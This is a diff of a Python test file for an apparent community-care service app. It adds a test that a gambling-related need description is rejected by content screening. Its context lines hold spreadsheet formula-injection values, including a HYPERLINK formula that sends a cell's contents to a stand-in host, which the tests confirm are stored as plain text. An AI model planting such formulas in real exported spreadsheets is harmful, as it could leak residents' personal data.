@@ -364,3 +364,18 @@ async def test_the_worksheet_writes_what_a_household_typed_as_text_never_as_a_fo
     cells = {row[0].value: row[1] for row in sheet.iter_rows() if row[0].value}
     assert cells["姓名"].data_type == "s" and cells["姓名"].value == '=HYPERLINK("http://x.example/"&B4,"点此")'
     assert cells["社区 / 住址"].data_type == "s" and cells["社区 / 住址"].value.startswith("=1+1 ")
+
+
+async def test_a_need_from_a_recommendation_has_its_description_screened_like_any_need(client):
+    # README (content security): need descriptions pass the word list and msgSecCheck, whoever
+    # writes them and through whichever route the need is made.
+    station = await make_station()
+    worker = await make_worker(client, station)
+    _, home = await make_resident(client, station, categories=["独居"])
+    await assess(client, worker, home["id"], HARD)
+    r = await client.post(f"/api/v1/residents/{home['id']}/recommendations/needs",
+                          json={"rule": "alone_disabled", "service_code": "LIVING_MEAL", "description": "想找人一起赌博"},
+                          headers=worker.headers)
+    err = assert_error(r, 422, "CONTENT_RISKY")
+    assert err["details"]["field"] == "description"
+    assert await Need.all().count() == 0
